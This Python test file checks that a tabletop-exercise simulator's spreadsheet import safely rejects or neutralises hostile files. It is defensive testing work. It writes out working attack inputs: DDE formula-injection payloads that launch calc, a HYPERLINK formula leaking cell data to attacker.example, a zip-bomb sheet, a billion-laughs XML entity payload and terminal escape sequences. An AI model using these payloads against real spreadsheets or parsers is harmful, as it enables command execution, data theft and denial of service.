"""Spreadsheets cannot attack: formulas, zip bombs, sparse sheets, XML entities, huge and broken CSVs.

Each test builds the hostile file itself and runs the real `tabletop msel` on it, with a time
limit: a refusal is exit 1 with a message naming the file, never a traceback, and an import
that fails leaves nothing behind.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

from openpyxl import Workbook, load_workbook

from simulator.authoring.msel import export_rows, neutralise_cell, read_sheet, restore_cell, write_sheet
from simulator.loading.pack import load_pack

from .attack_kit import MSEL_HEADER, refused, rewrite_part, small_workbook, tabletop

FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
            "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _write_csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([MSEL_HEADER, *rows])
    return path


def _formula_sheet(tmp_path: Path) -> Path:
    rows = [[f"I{k}", f"00:{k:02d}", f"Desk {k}", "mayor", "phone", f"Title {k}\n{text}", "", "", text, ""]
            for k, text in enumerate(FORMULAS, start=1)]
    rows[0][2] = FORMULAS[0]  # a sender's name too
    return _write_csv(tmp_path / "formula.csv", rows)


def test_formulas_imported_from_a_sheet_are_exported_as_inert_text(tmp_path):
    imported = tabletop("msel", "import", _formula_sheet(tmp_path), "-o", tmp_path / "p" / "scenario.yaml")
    assert imported.returncode == 0, imported.stderr
    for name in ("msel.csv", "msel.xlsx"):
        out = tabletop("msel", "export", tmp_path / "p", "-o", tmp_path / name)
        assert out.returncode == 0, out.stderr
    with (tmp_path / "msel.csv").open(encoding="utf-8", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert not [c for c in cells if c.startswith(DANGEROUS)]
    assert "'" + FORMULAS[0] in cells
    ws = load_workbook(tmp_path / "msel.xlsx").active  # not read-only: formulas would show as data type 'f'
    xlsx = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert {c.data_type for c in xlsx} == {"s"}
    assert not [c.value for c in xlsx if str(c.value).startswith(DANGEROUS)]
    assert "'" + FORMULAS[0] in [c.value for c in xlsx]


def test_our_own_neutralised_export_round_trips(tmp_path):
    """Export, import, export: the same rows, the "'" added by export read back off exactly once."""
    imported = tabletop("msel", "import", _formula_sheet(tmp_path), "-o", tmp_path / "p" / "scenario.yaml")
    assert imported.returncode == 0, imported.stderr
    first = export_rows(load_pack(tmp_path / "p"))
    assert FORMULAS[0] in [c for row in first for c in row]  # the pack holds the text as written
    for suffix in ("csv", "xlsx"):
        sheet = tmp_path / f"again.{suffix}"
        write_sheet(sheet, first)
        assert [cells for _n, cells in read_sheet(sheet).rows][1:] == first
        tabletop("msel", "import", sheet, "-o", tmp_path / suffix / "scenario.yaml").check_returncode()
        assert export_rows(load_pack(tmp_path / suffix)) == first
    for text in ["=x", "'=x", "''+x", "'plain", "plain", "-", "'", "\t=1", "\r=1", "'\t"]:
        assert restore_cell(neutralise_cell(text)) == text


def _bomb_sheet(rows: int) -> bytes:
    row = '<row r="{0}"><c r="A{0}" t="inlineStr"><is><t>{1}</t></is></c></row>'
    body = "".join(row.format(k, "x" * 40) for k in range(2, 40)) + " " * rows
    return ('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            f'{row.format(1, "Number")}{body}</sheetData></worksheet>').encode()


def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path):
    """A real workbook whose sheet unpacks to 60 MB from a zip of well under 1 MB."""
    bomb = rewrite_part(small_workbook(tmp_path / "base.xlsx"), tmp_path / "bomb.xlsx", "xl/worksheets/sheet1.xml",
                        lambda _old: _bomb_sheet(60_000_000))
    assert bomb.stat().st_size < 1_000_000
    result = tabletop("msel", "import", bomb, "-o", tmp_path / "out" / "scenario.yaml")
    assert refused(result) and "bomb.xlsx" in result.stderr and "unpacks to" in result.stderr
    assert not (tmp_path / "out").exists()


def test_a_part_that_shrinks_a_thousand_times_is_refused(tmp_path):
    bomb = rewrite_part(small_workbook(tmp_path / "base.xlsx"), tmp_path / "dense.xlsx", "xl/worksheets/sheet1.xml",
                        lambda _old: _bomb_sheet(20_000_000))
    result = tabletop("msel", "import", bomb, "-o", tmp_path / "out" / "scenario.yaml")
    assert refused(result) and "shrinks" in result.stderr


def test_a_sparse_sheet_with_one_cell_at_xfd1048576_is_refused(tmp_path):
    wb = Workbook()
    ws = wb.active
    ws.title = "MSEL"
    ws.append(MSEL_HEADER[:6])
    ws.append(["I1", "00:00", "Desk", "mayor", "phone", "Hello"])
    ws["XFD1048576"] = "far away"
    wb.save(tmp_path / "sparse.xlsx")
    assert (tmp_path / "sparse.xlsx").stat().st_size < 10_000
    result = tabletop("msel", "import", tmp_path / "sparse.xlsx", "-o", tmp_path / "out" / "scenario.yaml")
    assert refused(result) and "sheet 'MSEL'" in result.stderr and "XFD1048576" in result.stderr


def test_a_sparse_sheet_that_hides_its_size_is_read_lazily_and_refused(tmp_path):
    """No <dimension> element: the reader cannot know the size up front, so it must stop by itself."""
    small_workbook(tmp_path / "base.xlsx")

    def undeclared(xml: bytes) -> bytes:
        xml = re.sub(rb"<dimension [^>]*/>", b"", xml)
        return xml.replace(b"</sheetData>", b'<row r="1048576"><c r="AY1048576" t="inlineStr"><is><t>x</t></is></c></row>'
                                            b"</sheetData>")

    sheet = rewrite_part(tmp_path / "base.xlsx", tmp_path / "hidden.xlsx", "xl/worksheets/sheet1.xml", undeclared)
    result = tabletop("msel", "import", sheet, "-o", tmp_path / "out" / "scenario.yaml")
    assert refused(result) and "row 1048576" in result.stderr


LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (k + 1, (b"&lol%d;" % k if k else b"&lol;") * 10) for k in range(9))
          + b"]>")


def test_xml_entities_in_a_sheet_are_refused_plainly(tmp_path):
    small_workbook(tmp_path / "base.xlsx")
    for part, change in [("xl/worksheets/sheet1.xml", lambda xml: LAUGHS + xml.replace(b"<t>Hello</t>", b"<t>&lol9;</t>")),
                         ("xl/workbook.xml", lambda xml: LAUGHS + xml)]:
        sheet = rewrite_part(tmp_path / "base.xlsx", tmp_path / "laughs.xlsx", part, change)
        result = tabletop("msel", "import", sheet, "-o", tmp_path / "out" / "scenario.yaml")
        assert refused(result) and "laughs.xlsx" in result.stderr and "entities" in result.stderr, (part, result.stderr)
        assert not (tmp_path / "out").exists()


def test_files_that_are_not_workbooks_are_refused_plainly(tmp_path):
    (tmp_path / "text.xlsx").write_text("not a zip")
    small_workbook(tmp_path / "base.xlsx")
    import zipfile

    with zipfile.ZipFile(tmp_path / "other.xlsx", "w") as z:
        z.writestr("readme.txt", "a zip, but no spreadsheet")
    rewrite_part(tmp_path / "base.xlsx", tmp_path / "broken.xlsx", "xl/worksheets/sheet1.xml", lambda xml: xml[: len(xml) // 2])
    for name in ("text.xlsx", "other.xlsx", "broken.xlsx"):
        result = tabletop("msel", "import", tmp_path / name, "-o", tmp_path / "out" / "scenario.yaml")
        assert refused(result) and name in result.stderr, result.stderr


def test_a_100000_row_csv_is_refused_at_once_and_leaves_nothing(tmp_path):
    rows = [[f"I{k}", "00:00", "Desk", "mayor", "phone", f"Inject {k}", "", "", "", ""] for k in range(100_000)]
    big = _write_csv(tmp_path / "big.csv", rows)
    out = tmp_path / "out" / "scenario.yaml"
    result = tabletop("msel", "import", big, "-o", out, timeout=30)
    assert refused(result) and "row 5001" in result.stderr
    assert not (tmp_path / "out").exists()
    small = _write_csv(tmp_path / "small.csv", rows[:50])
    again = tabletop("msel", "import", small, "-o", out)  # the rerun is not refused by leftovers
    assert again.returncode == 0, again.stderr


def test_an_import_whose_skeleton_does_not_validate_leaves_nothing(tmp_path):
    """The sheet reads, but the scenario it makes is nested past the loader's depth limit."""
    deep = "{not: " * 97 + "{after: 5}" + "}" * 97
    sheet = _write_csv(tmp_path / "deep.csv", [["I1", "", "Desk", "mayor", "phone", "Hello", "", "", "", f"when: {deep}"]])
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "keep.txt").write_text("mine")
    result = tabletop("msel", "import", sheet, "-o", tmp_path / "out" / "scenario.yaml")
    assert refused(result) and "scenario.yaml" in result.stderr
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["keep.txt"]


def test_cells_and_columns_past_the_limits_are_refused(tmp_path):
    long_cell = _write_csv(tmp_path / "long.csv", [["I1", "00:00", "Desk", "mayor", "phone", "x" * 20_000, "", "", "", ""]])
    wide = _write_csv(tmp_path / "wide.csv", [["I1", "00:00", "Desk", "mayor", "phone", "Hi", *[""] * 60, "far"]])
    for sheet, words in [(long_cell, "20,000 characters"), (wide, "column 67")]:
        result = tabletop("msel", "import", sheet, "-o", tmp_path / "out" / "scenario.yaml")
        assert refused(result) and "row 2" in result.stderr and words in result.stderr, result.stderr


def test_an_unclosed_csv_quote_is_refused_with_its_row(tmp_path):
    sheet = tmp_path / "quote.csv"
    sheet.write_text(",".join(MSEL_HEADER[:6]) + '\nI1,00:00,Desk,mayor,phone,"Hello\nI2,00:10,Desk,mayor,phone,Bye\n')
    result = tabletop("msel", "import", sheet, "-o", tmp_path / "out" / "scenario.yaml")
    assert refused(result) and "quote.csv: row 2:" in result.stderr and "never closed" in result.stderr
    assert not (tmp_path / "out").exists()


def test_contingencies_nested_thousands_deep_are_refused(tmp_path):
    for depth in (6_000, 1_000):
        deep = "{all: [" * depth + "{after: 5}" + "]}" * depth
        sheet = _write_csv(tmp_path / "deep.csv", [["I1", "", "Desk", "mayor", "phone", "Hello", "", "", "", f"when: {deep}"]])
        result = tabletop("msel", "import", sheet, "-o", tmp_path / "out" / "scenario.yaml")
        assert refused(result) and "deep.csv: row 2:" in result.stderr, result.stderr
        assert not (tmp_path / "out").exists()


def test_control_characters_in_a_cell_are_refused_by_row_and_column(tmp_path):
    sheet = _write_csv(tmp_path / "esc.csv", [["I1", "00:00", "Desk", "mayor", "phone", "Hello \x1b[2J\x1b]0;owned\x07", "",
                                               "", "", ""]])
    result = tabletop("msel", "import", sheet, "-o", tmp_path / "out" / "scenario.yaml")
    assert refused(result) and "esc.csv: row 2: the cell in column 6" in result.stderr and "\\x1b" in result.stderr
    assert "\x1b" not in result.stderr and not (tmp_path / "out").exists()
